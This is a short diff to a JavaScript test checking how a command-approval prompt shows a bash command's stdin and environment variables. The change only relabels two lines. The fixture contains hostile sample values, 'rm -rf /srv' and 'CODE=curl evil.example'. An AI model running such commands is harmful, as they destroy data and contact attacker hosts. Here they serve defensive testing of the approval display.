@@ -113,10 +113,10 @@ test("what a command reads and finds in its environment belongs to what must hav
   const { command } = approvalLines(approval, { color: false, columns: 80, nowMs: Date.now() });
   assert.deepEqual(command.slice(1), [
     "│ bash -s",
-    "with this input",
+    "with this text on stdin",
     "│ id",
     "│ rm -rf /srv",
-    "with these variables",
+    "with these environment variables",
     "│ CODE=curl evil.example",
   ]);
 });
